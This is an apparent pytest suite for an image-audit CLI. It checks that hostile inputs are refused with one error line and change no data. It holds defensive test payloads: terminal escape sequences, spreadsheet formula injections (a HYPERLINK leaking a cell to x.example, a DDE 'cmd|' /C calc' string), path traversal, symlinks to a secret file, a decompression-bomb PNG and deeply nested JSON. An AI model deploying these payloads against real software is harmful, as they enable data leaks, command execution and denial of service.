"""Hostile files and text through the real CLI and pages (issue 21): run-folder manifests, CSV files,
names, prompt lists, seed ranges, broken models, exports a spreadsheet opens, text a terminal prints,
and images over the caps. A refusal is one exact `error:` line, exit 2, no traceback, and every table's
rows and every file under the home as they were. Each message is the module constant the code raises."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import os
import shutil
import struct
import subprocess
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from helpers import ORIGIN_SHEET, assert_one_error_line, open_page, png, run_cli, sheet

from sdaudit.analysis.targets import MAX_BYTES as MAX_TARGETS_BYTES
from sdaudit.errors import SdauditError
from sdaudit.files.csvfile import CONTROL, DUPLICATE_COLUMN, ROW_SHORT, TOO_BIG, spreadsheet_safe
from sdaudit.files.gallery import CANNOT_SHOW, TOO_MANY_PIXELS, load_image
from sdaudit.files.manifest_schema import FIELD, IMAGE, MANIFEST_SCHEMA, RUN, UNKNOWN, shown
from sdaudit.files.reference import MAX_IMAGE_PIXELS
from sdaudit.files.runfolder import MANIFEST, NESTED, RunFolder
from sdaudit.files.safe import LINK
from sdaudit.files.sheets import import_annotations
from sdaudit.generation.generate import StoreSink, generate
from sdaudit.generation.promptsets import CONTROL as PROMPT_LIST_CONTROL
from sdaudit.generation.spec import MAX_SEEDS, SEED_COUNT, GenerationSpec
from sdaudit.records import RATER_CONTROL, STUDY_NAME
from sdaudit.store import TABLES, Store

TINY = ["--steps", "2", "--height", "64", "--width", "64", "--batch-size", "2"]
ESCAPES = "\x1b]0;PWNED\x07\x1b[2J"  # retitles the terminal, then clears the screen
PROMPT = f"a doctor {ESCAPES}at a desk"
SECRET = "TOP-SECRET-LINE,do not print me"
SDAUDIT_HEADER = "run_key,seed,rater,person_present,gender,mst,skin_binary,confidence"
FORMULAS = ('=HYPERLINK("http://x.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3")


@pytest.fixture(scope="module")
def template(tmp_path_factory, tiny_model) -> Path:
    """A home with one generated run (its prompt holds escape sequences), the origin sheet imported
    with a second rater whose name holds escape sequences (as a store written before names were
    checked may hold), and a run folder beside it; copied afresh for every case."""
    root = tmp_path_factory.mktemp("hostile-inputs")
    home = root / "home"
    spec = GenerationSpec(model=str(tiny_model), prompt=PROMPT, first_seed=0, last_seed=1, batch_size=2, steps=2,
                          height=64, width=64, device="cpu")
    with Store.open(home) as store:
        generate(spec, StoreSink(store, home), home=home)
        import_annotations(ORIGIN_SHEET, store, study="origin", rater="ana")
        rows = store.annotations(study="origin")[["image_id", "person_present", "gender", "mst", "skin_binary",
                                                    "confidence"]].assign(rater=f"ben{ESCAPES}")
        store.save_annotations(rows)
    generate(spec, RunFolder(root / "runfolder", spec=spec.to_dict()), home=home)
    RunFolder(root / "runfolder").finalize()
    (root / "secret.txt").write_text(SECRET + "\n")
    return root


@dataclass
class Place:
    root: Path
    model: Path

    @property
    def home(self) -> Path:
        return self.root / "home"

    def file(self, name: str, content: str | bytes) -> Path:
        path = self.root / name
        path.write_bytes(content.encode() if isinstance(content, str) else content)
        return path

    def manifest(self, change: Callable[[dict], object]) -> Path:
        """A copy of the run folder whose manifest ``change`` has altered."""
        folder = self.root / "bad-folder"
        shutil.copytree(self.root / "runfolder", folder)
        manifest = json.loads((folder / MANIFEST).read_text())
        change(manifest)
        (folder / MANIFEST).write_text(json.dumps(manifest))
        return folder


@pytest.fixture
def place(template, tiny_model, tmp_path) -> Place:
    shutil.copytree(template, tmp_path / "p")
    return Place(tmp_path / "p", tiny_model)


def home_state(home: Path) -> tuple[dict, dict]:
    """Every table's rows, and every file under the home (the store file aside) with its sha256."""
    with Store(home / "sdaudit.duckdb", read_only=True) as store:
        tables = {table: sorted(map(repr, store.db.read_frame(f"SELECT * FROM {table}").astype(str).values.tolist()))
                  for table in TABLES}
    files = {str(path.relative_to(home)): hashlib.sha256(path.read_bytes()).hexdigest()
             for path in sorted(home.rglob("*")) if path.is_file() and not path.name.startswith("sdaudit.duckdb")}
    return tables, files


def assert_refused(result, message: str) -> None:
    assert "Traceback" not in result.stderr, result.stderr
    assert result.returncode == 2, result.stderr
    assert result.stderr.splitlines() == [f"error: {message}"]


# -- run-folder manifests ------------------------------------------------------------------------


def _set(section: str, field: str, value) -> Callable[[dict], None]:
    return lambda manifest: manifest[section][0].__setitem__(field, value)


def _image_field(field: str, value) -> tuple:
    return _set("images", field, value), f"images[0].{field}", IMAGE["properties"][field]["description"], value


def _run_field(field: str, value) -> tuple:
    return _set("runs", field, value), f"runs[0].{field}", RUN["properties"][field]["description"], value


MANIFEST_CASES = {
    "runs is a number": (lambda m: m.__setitem__("runs", 5), "runs", MANIFEST_SCHEMA["properties"]["runs"]["description"], 5),
    "seed is text": _image_field("seed", "x"),
    "seed is negative": _image_field("seed", -5),
    "seed is 2**70": _image_field("seed", 2**70),
    "seed is 1.5": _image_field("seed", 1.5),
    "seed is 1.0": _image_field("seed", 1.0),
    "path is a number": _image_field("path", 5),
    "nsfw is text": _image_field("nsfw", "yes"),
    "steps is text": _run_field("steps", "abc"),
    "prompt is a number": _run_field("prompt", 123),
    "prompt holds NUL": _run_field("prompt", "a doctor\x00"),
    "versions is text": _run_field("versions", "zz"),
    "width not a multiple of 8": _run_field("width", 65),
}


@pytest.mark.parametrize("case", MANIFEST_CASES.values(), ids=MANIFEST_CASES)
def test_a_manifest_field_out_of_its_schema_is_one_line_and_ingests_nothing(place, case):
    change, field, rule, value = case
    folder = place.manifest(change)
    before = home_state(place.home)
    result = run_cli("ingest", str(folder), "--home", str(place.home), cwd=place.root)
    assert_refused(result, FIELD.format(where=folder / MANIFEST, field=field, rule=rule, value=shown(value)))
    assert home_state(place.home) == before


def test_a_manifest_study_name_is_checked_by_todays_rule(place):
    folder = place.manifest(_set("runs", "study", "../../x"))
    before = home_state(place.home)
    result = run_cli("ingest", str(folder), "--home", str(place.home), cwd=place.root)
    assert_refused(result, STUDY_NAME.format(value="../../x"))
    assert home_state(place.home) == before


def test_an_unknown_manifest_field_is_refused(place):
    folder = place.manifest(lambda manifest: manifest["images"][0].__setitem__("evil", 1))
    before = home_state(place.home)
    result = run_cli("ingest", str(folder), "--home", str(place.home), cwd=place.root)
    assert_refused(result, UNKNOWN.format(where=folder / MANIFEST, field="images[0]", name="'evil'"))
    assert home_state(place.home) == before


def test_a_manifest_nested_200000_deep_is_one_line(place):
    folder = place.manifest(lambda manifest: None)
    text = (folder / MANIFEST).read_text()
    (folder / MANIFEST).write_text(text.replace('"runs": [', '"runs": [' + "[" * 200_000 + "]" * 200_000 + ", ", 1))
    before = home_state(place.home)
    result = run_cli("ingest", str(folder), "--home", str(place.home), cwd=place.root)
    assert_refused(result, NESTED.format(where=folder / MANIFEST))
    assert home_state(place.home) == before


def test_every_manifest_sdaudit_writes_fits_its_schema(place):
    """The schema names every field of a spec, a run and an image, and the template's folder passes."""
    from dataclasses import fields

    from sdaudit.files.manifest_schema import SPEC
    from sdaudit.files.runfolder import read_run_folder
    from sdaudit.records import ImageRecord, RunRecord

    assert set(SPEC["properties"]) == {field.name for field in fields(GenerationSpec)}
    assert set(RUN["properties"]) == {field.name for field in fields(RunRecord)}
    assert set(IMAGE["properties"]) == {field.name for field in fields(ImageRecord)}
    assert len(read_run_folder(place.root / "runfolder").images) == 2


# -- CSV files, names, prompt lists, seeds, models -------------------------------------------------


def _csv(rows: list[list[str]]) -> str:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue()


@dataclass
class Case:
    id: str
    args: Callable[[Place], list[str]]
    message: Callable[[Place], str]


def _linked_sheet(place: Place) -> Path:
    (place.root / "sheet.csv").symlink_to(place.root / "secret.txt")
    return place.root / "sheet.csv"


CASES = [
    Case("a linked sheet is refused unread",
         lambda p: ["import-annotations", str(_linked_sheet(p)), "--study", "origin", "--rater", "r", "--home", str(p.home)],
         lambda p: LINK.format(what="the annotation sheet", path="sheet.csv", root=p.root.resolve())),
    Case("a sheet naming a column twice",
         lambda p: ["import-annotations", str(p.file("twice.csv", "male_presenting,female_presenting,monk_binary,"
                                                      "confidence,Confidence\n0,1,0,high,low\n")),
                    "--study", "origin", "--rater", "r", "--home", str(p.home)],
         lambda p: DUPLICATE_COLUMN.format(name="twice.csv", column="confidence", first=4, second=5)),
    Case("a sheet row shorter than its header",
         lambda p: ["import-annotations", str(p.file("short.csv", "male_presenting,female_presenting,monk_binary,"
                                                     "confidence\n0,1,0,high\n1,0\n")),
                    "--study", "origin", "--rater", "r", "--home", str(p.home)],
         lambda p: ROW_SHORT.format(name="short.csv", row=3, fields=2, header=4)),
    Case("a NUL in a sheet's rater",
         lambda p: ["import-annotations", str(p.file("nul.csv", SDAUDIT_HEADER + "\nr1,0,an\x00a,true,female,3,,high\n")),
                    "--study", "origin", "--format", "sdaudit", "--home", str(p.home)],
         lambda p: CONTROL.format(name="nul.csv", row=2, column="rater", cell=repr("an\x00a"))),
    Case("an escape sequence in a sheet's cell",
         lambda p: ["import-annotations", str(p.file("esc.csv", SDAUDIT_HEADER + f"\nr1,0,ana,true,female{ESCAPES},3,,high\n")),
                    "--study", "origin", "--format", "sdaudit", "--home", str(p.home)],
         lambda p: CONTROL.format(name="esc.csv", row=2, column="gender", cell=repr(f"female{ESCAPES}"))),
    Case("an escape sequence in --rater",
         lambda p: ["import-annotations", str(ORIGIN_SHEET), "--study", "origin", "--rater", f"ana{ESCAPES}",
                    "--home", str(p.home)],
         lambda p: RATER_CONTROL.format(value=f"ana{ESCAPES}")),
    Case("a NUL in a targets row",
         lambda p: ["import-targets", str(p.file("targets.csv", "slot,family,group,target,source\n"
                                                 "doctor\x00,gender,female,0.4,ONS\n")),
                    "--study", "origin", "--home", str(p.home)],
         lambda p: CONTROL.format(name=f"the targets file {p.root / 'targets.csv'}", row=2, column="slot",
                                  cell=repr("doctor\x00"))),
    Case("a targets file naming a column twice",
         lambda p: ["import-targets", str(p.file("targets.csv", "slot,family,group,target,source,slot\n"
                                                 "doctor,gender,female,0.4,ONS,nurse\n")),
                    "--study", "origin", "--home", str(p.home)],
         lambda p: DUPLICATE_COLUMN.format(name=f"the targets file {p.root / 'targets.csv'}", column="slot", first=1,
                                           second=6)),
    Case("a NUL in a prompt-list value",
         lambda p: ["generate", "--model", str(p.model), *TINY, "--seeds", "0-1", "--prompt-template", "a photo of a {}",
                    "--prompt-list", str(p.file("jobs.txt", "doctor\nnur\x00se\n")), "--home", str(p.home)],
         lambda p: PROMPT_LIST_CONTROL.format(line=2, where=p.root / "jobs.txt", value="nur\x00se")),
    Case("a seed range of 2**53 seeds",
         lambda p: ["generate", "--model", str(p.model), *TINY, "--seeds", "0-9007199254740991", "--home", str(p.home)],
         lambda p: SEED_COUNT.format(first=0, last=9007199254740991, count=9007199254740992, max=MAX_SEEDS,
                                     end=MAX_SEEDS - 1)),
]


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_hostile_input_is_one_exact_line_and_changes_nothing(place, case):
    before = home_state(place.home)
    result = run_cli(*case.args(place), cwd=place.root, env={"HF_HUB_OFFLINE": "1"})
    assert_refused(result, case.message(place))
    assert SECRET not in result.stderr + result.stdout
    assert home_state(place.home) == before


@pytest.mark.parametrize("name", ["an\x00a", "ana\u202eeb", "ana\u2066x\u2069"], ids=["NUL", "RLO", "isolate"])
def test_a_control_character_in_a_rater_name_is_refused_where_sheets_are_imported(tmp_path, name):
    """A NUL, or a text-direction control: "ana\u202eeb" shows as "anabe", one rater made to look like another."""
    with Store() as store, pytest.raises(SdauditError) as caught:
        import_annotations(ORIGIN_SHEET, store, study="origin", rater=name)
    assert str(caught.value) == RATER_CONTROL.format(value=name)


def test_the_targets_cap_holds_through_the_one_reader(place):
    big = place.file("big.csv", "a\n" + "x\n" * (MAX_TARGETS_BYTES // 2 + 1))
    result = run_cli("import-targets", str(big), "--study", "origin", "--home", str(place.home), cwd=place.root)
    assert_refused(result, TOO_BIG.format(name=f"the targets file {big}", size=big.stat().st_size, max=MAX_TARGETS_BYTES))


def test_a_model_whose_unet_config_is_broken_is_one_error_line(place):
    broken = place.root / "broken-model"
    shutil.copytree(place.model, broken)
    (broken / "unet" / "config.json").write_text("[1]")
    before = home_state(place.home)
    result = run_cli("generate", "--model", str(broken), *TINY, "--seeds", "0-1", "--home", str(place.home),
                     cwd=place.root, env={"HF_HUB_OFFLINE": "1"})
    assert "Traceback" not in result.stderr and result.returncode == 2, result.stderr
    assert len(result.stderr.splitlines()) == 1, result.stderr  # no FutureWarning line
    assert result.stderr.startswith(f"error: could not load model {str(broken)!r} as a text-to-image pipeline")
    assert home_state(place.home) == before


# -- safe to open elsewhere ------------------------------------------------------------------------


def test_csv_exports_open_in_a_spreadsheet_as_text_and_parquet_keeps_the_raw_text(place):
    rows = [SDAUDIT_HEADER.split(",")]
    run_key = json.loads((place.root / "runfolder" / MANIFEST).read_text())["runs"][0]["run_key"]
    rows += [[run_key, "0", formula, "true", "female", "3", "", "high"] for formula in FORMULAS]
    sheet_path = place.file("formulas.csv", _csv(rows))
    run_cli("import-annotations", str(sheet_path), "--study", "default", "--format", "sdaudit",
            "--home", str(place.home), cwd=place.root, check=True)
    out = place.root / "out"
    run_cli("export", "--study", "default", "--out", str(out), "--home", str(place.home), cwd=place.root, check=True)
    with (out / "default-annotations.csv").open(newline="") as handle:
        exported = list(csv.DictReader(handle))
    assert sorted(row["rater"] for row in exported) == sorted("'" + formula for formula in FORMULAS)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in exported for cell in row.values())
    assert {row["seed"] for row in exported} == {"0"}  # numbers stay numbers
    assert sorted(pd.read_parquet(out / "default-annotations.parquet")["rater"]) == sorted(FORMULAS)


def test_an_export_imported_back_keeps_every_raters_name(place):
    """The export's leading "'" before a formula's first character is taken off again on import:
    the answers of rater "-anna" came back under a second rater "'-anna" and counted twice."""
    rows = [SDAUDIT_HEADER.split(",")]
    run_key = json.loads((place.root / "runfolder" / MANIFEST).read_text())["runs"][0]["run_key"]
    rows += [[run_key, "0", formula, "true", "female", "3", "", "high"] for formula in FORMULAS]
    run_cli("import-annotations", str(place.file("formulas.csv", _csv(rows))), "--study", "default", "--format",
            "sdaudit", "--home", str(place.home), cwd=place.root, check=True)
    out = place.root / "out"
    run_cli("export", "--study", "default", "--out", str(out), "--home", str(place.home), cwd=place.root, check=True)
    run_cli("import-annotations", str(out / "default-annotations.csv"), "--study", "default", "--format", "sdaudit",
            "--home", str(place.home), cwd=place.root, check=True)
    with Store(place.home / "sdaudit.duckdb", read_only=True) as store:
        raters = store.annotations(study="default")["rater"]
    assert not any(rater.startswith("'") for rater in raters)
    assert raters[raters.isin(FORMULAS)].value_counts().to_dict() == dict.fromkeys(FORMULAS, 1)


def test_only_text_cells_are_neutralised():
    table = pd.DataFrame({"group": ["-x", "=1", "male", None], "difference": [-0.25, 0.5, -1.0, 0.0],
                          "images": pd.array([-1, 2, None, 4], dtype="Int64")})
    safe = spreadsheet_safe(table)
    assert list(safe["group"][:3]) == ["'-x", "'=1", "male"] and pd.isna(safe["group"][3])
    assert safe["difference"].equals(table["difference"]) and safe["images"].equals(table["images"])
    assert list(table["group"][:3]) == ["-x", "=1", "male"]  # the caller's table is left as it was


@pytest.mark.parametrize("text", ["-anna", "'-anna", "''-anna", "'quoted", "=1", "'=1", "plain", "'", "''", "@x"])
def test_a_neutralised_cell_reads_back_as_it_was_written(text):
    """``as_written`` undoes ``spreadsheet_safe`` for every text: "'-anna" came back as "-anna" (a
    second rater) when only formula starts were marked."""
    from sdaudit.files.csvfile import as_written

    written = spreadsheet_safe(pd.DataFrame({"rater": [text]}))["rater"][0]
    assert as_written(written) == text
    assert not written.startswith(("=", "+", "-", "@")), "a spreadsheet never sees a formula"


@pytest.mark.parametrize("command", [["runs"], ["agreement", "--study", "origin"],
                                     ["import-annotations", str(ORIGIN_SHEET), "--study", "more", "--rater", "ana"]],
                         ids=lambda command: command[0])
def test_the_cli_prints_no_escape_sequence(place, command):
    # import-annotations echoes its home: one whose folder name holds the escapes
    home = place.root / f"home{ESCAPES}" if command[0] == "import-annotations" else place.home
    result = run_cli(*command, "--home", str(home), cwd=place.root)
    assert result.returncode == 0, result.stderr
    assert "\x1b" not in result.stdout + result.stderr and "\x07" not in result.stdout
    if command[0] == "runs":
        assert "a doctor ]0;PWNED" not in result.stdout and "a doctor" in result.stdout
    if command[0] == "agreement":
        assert "ben" in result.stdout  # the rater is named, without the escapes


# -- pages never crash on a bad file ----------------------------------------------------------------


def _huge_png(side: int = 30_000) -> bytes:
    """A PNG of side × side grey pixels (900 megapixels), a few KB on disk: only its header is honest."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    header = struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00" * (side + 1) * 4))
            + chunk(b"IEND", b""))


def test_an_image_over_the_pixel_cap_is_a_placeholder_not_a_decoder_run(tmp_path):
    (tmp_path / "images" / "R").mkdir(parents=True)
    (tmp_path / "images" / "R" / "0.png").write_bytes(_huge_png())
    loaded = load_image(tmp_path, "images/R/0.png")
    assert loaded.data is None
    assert loaded.problem == CANNOT_SHOW.format(reason=TOO_MANY_PIXELS.format(path="images/R/0.png", max=MAX_IMAGE_PIXELS))


@pytest.mark.parametrize("page", ["annotate", "team"])
def test_annotate_and_team_show_a_placeholder_for_a_900_megapixel_image(app_home, page):
    from helpers import make_images, make_run

    from app.widgets import plain

    with Store.open(app_home) as store:
        store.add_run(make_run())
        images = make_images(seeds=range(2))
        for image in images:
            (app_home / image.path).parent.mkdir(parents=True, exist_ok=True)
            (app_home / image.path).write_bytes(png(image.seed))
        (app_home / images[0].path).write_bytes(_huge_png())
        store.add_images(images)
        first = int(store.images(run_key="run-a")["image_id"].iloc[0])
        if page == "team":  # a disagreement on the image, so Team lists it to adjudicate
            for rater, gender in (("ana", "female"), ("ben", "male")):
                store.save_annotations(sheet({(gender, 3): 1}, rater=rater, start=first).assign(confidence="high"))
    at = open_page(page, rater="cai")
    assert not at.exception, at.exception
    expected = plain(CANNOT_SHOW.format(reason=TOO_MANY_PIXELS.format(path=images[0].path, max=MAX_IMAGE_PIXELS)))
    assert expected in [warning.value for warning in at.warning]


# -- run folders that generate writes into ---------------------------------------------------------


def _run_cli_within(seconds: int, *args: str):
    """``run_cli`` that gives up after ``seconds`` (a write into a pipe would wait forever)."""
    path = os.pathsep.join(p for p in (str(Path(__file__).parent.parent), os.environ.get("PYTHONPATH", "")) if p)
    return subprocess.run([sys.executable, "-m", "sdaudit", *args], env={**os.environ, "PYTHONPATH": path},
                          capture_output=True, text=True, timeout=seconds)


def _plant_part_link(place: Place, out: Path) -> Path:
    (out / "parts").mkdir(parents=True)
    (out / "parts" / "rank-0.jsonl").symlink_to(place.root / "secret.txt")
    return place.root / "secret.txt"


def _plant_parts_folder_link(place: Place, out: Path) -> Path:
    elsewhere = place.root / "elsewhere"
    elsewhere.mkdir()
    out.mkdir()
    (out / "parts").symlink_to(elsewhere)
    return elsewhere


def _plant_part_pipe(place: Place, out: Path) -> Path:
    (out / "parts").mkdir(parents=True)
    os.mkfifo(out / "parts" / "rank-0.jsonl")
    return place.root / "secret.txt"


@pytest.mark.parametrize("plant", [_plant_part_link, _plant_parts_folder_link, _plant_part_pipe],
                         ids=["part-file-link", "parts-folder-link", "part-file-pipe"])
def test_generate_out_writes_through_no_link_or_pipe_in_the_run_folder(place, plant):
    out = place.root / "out"
    outside = plant(place, out)

    def state() -> dict:
        paths = [outside] if outside.is_file() else sorted(outside.rglob("*"))
        return {str(path): path.read_bytes() for path in paths}

    before = state()
    result = _run_cli_within(120, "generate", "--model", str(place.model), *TINY, "--seeds", "0-1", "--out", str(out))
    assert_one_error_line(result, contains="rank-0.jsonl")
    assert state() == before
    assert not (out / "images").exists() or not any((out / "images").rglob("*.png"))


def _rekey(run_key: str) -> Callable[[dict], None]:
    def change(manifest: dict) -> None:
        for row in manifest["runs"] + manifest["images"]:
            row["run_key"] = run_key
    return change


@pytest.mark.parametrize("field, value", [("prompt", "a nurse at a desk"), ("model", "another/model"),
                                          ("steps", 3), ("guidance", 9.5), ("negative_prompt", "blurry")])
def test_a_folder_run_with_other_settings_does_not_join_the_stored_run_of_its_key(place, field, value):
    folder = place.manifest(_set("runs", field, value))
    run_key = json.loads((folder / MANIFEST).read_text())["runs"][0]["run_key"]
    before = home_state(place.home)
    result = run_cli("ingest", str(folder), "--home", str(place.home), cwd=place.root)
    line = assert_one_error_line(result, contains=run_key)
    assert f"({field} " in line
    assert home_state(place.home) == before


def test_a_folder_run_keyed_as_an_imported_sheet_does_not_join_it(place):
    with Store(place.home / "sdaudit.duckdb", read_only=True) as store:
        runs = store.runs(study="origin")
    external = runs["run_key"].iloc[0]
    folder = place.manifest(_rekey(external))
    before = home_state(place.home)
    result = run_cli("ingest", str(folder), "--home", str(place.home), cwd=place.root)
    line = assert_one_error_line(result, contains=external)
    assert "(study 'origin' there" in line
    assert home_state(place.home) == before


# -- names in the way of an export, a report or an ingest ----------------------------------------


def _tree(folder: Path) -> dict:
    return {str(path.relative_to(folder)): (path.is_symlink(), path.read_bytes() if path.is_file() else None)
            for path in sorted(folder.rglob("*"))}


@pytest.mark.parametrize("blocked", ["default-estimates.csv", ".default-estimates.parquet.partial"])
def test_an_export_with_one_name_blocked_replaces_no_file(place, blocked):
    out = place.root / "out"
    run_cli("export", "--study", "default", "--out", str(out), "--home", str(place.home), cwd=place.root, check=True)
    for path in out.iterdir():
        path.write_bytes(b"the user's earlier export")
    (out / blocked).unlink(missing_ok=True)
    (out / blocked).mkdir()
    before = _tree(out)
    result = run_cli("export", "--study", "default", "--out", str(out), "--home", str(place.home), cwd=place.root)
    assert _tree(out) == before
    assert_one_error_line(result, contains=str(out / blocked))


def test_a_link_at_a_reports_partial_name_is_named_and_kept(place):
    out = place.root / "rep"
    out.mkdir()
    (out / ".r.html.partial").symlink_to(place.root / "secret.txt")
    result = run_cli("report", "--study", "default", "--out", str(out / "r.html"), "--home", str(place.home),
                     cwd=place.root)
    assert_one_error_line(result, contains=str(out / ".r.html.partial"))
    assert (out / ".r.html.partial").is_symlink() and not (out / "r.html").exists()
    assert (place.root / "secret.txt").read_text() == SECRET + "\n"


def test_a_link_at_an_images_partial_name_is_named_and_kept_by_ingest(place):
    home = place.root / "home2"
    run_key = json.loads((place.root / "runfolder" / MANIFEST).read_text())["runs"][0]["run_key"]
    (home / "images" / run_key).mkdir(parents=True)
    link = home / "images" / run_key / ".0.png.partial"
    link.symlink_to(place.root / "secret.txt")
    result = run_cli("ingest", str(place.root / "runfolder"), "--home", str(home), cwd=place.root)
    assert_one_error_line(result, contains=str(link))
    assert link.is_symlink() and not (home / "images" / run_key / "0.png").exists()
    assert (place.root / "secret.txt").read_text() == SECRET + "\n"


# -- a refused command makes no data home --------------------------------------------------------


@pytest.mark.parametrize("argv", [
    lambda p: ["import-annotations", str(p.file("bad.csv", "not,a,sheet\n1,2,3\n")), "--study", "s", "--rater", "ana"],
    lambda p: ["import-annotations", str(ORIGIN_SHEET), "--study", "s", "--rater", f"ana{ESCAPES}"],
    lambda p: ["ingest-images", str(p.root / "runfolder" / "images"), "--name", "set", "--study", "s",
               "--license", f"cc{ESCAPES}"],
    lambda p: ["generate", "--model", str(p.root / "no-such-model"), *TINY, "--seeds", "0-1"],
], ids=["bad-sheet", "bad-rater", "ingest-images", "generate-bad-model"])
def test_a_refused_command_leaves_no_new_data_home(place, argv):
    home = place.root / "new" / "home"
    result = run_cli(*argv(place), "--home", str(home), cwd=place.root)
    assert_one_error_line(result)
    assert not (place.root / "new").exists()


def test_an_export_removes_the_scratch_folder_a_killed_export_left(place, tmp_path):
    """An export's scratch folder lives in --out (not under /tmp, where kill -9 would leave it for
    good); the next export removes one whose process is gone."""
    out = place.root / "out"
    killed = subprocess.Popen([sys.executable, "-c", "pass"])
    killed.wait()  # a process id that no longer runs
    stale = out / f".sdaudit-export-{killed.pid}-abc"
    stale.mkdir(parents=True)
    (stale / "default-annotations.csv").write_text("half")
    scratch_tmp = tmp_path / "tmp"
    scratch_tmp.mkdir()
    run_cli("export", "--study", "default", "--out", str(out), "--home", str(place.home), cwd=place.root,
            check=True, env={"TMPDIR": str(scratch_tmp)})
    assert not stale.exists()
    assert sorted(path.name for path in out.iterdir() if path.name.startswith(".")) == []
    assert list(scratch_tmp.iterdir()) == []
    assert (out / "default-estimates.csv").is_file()
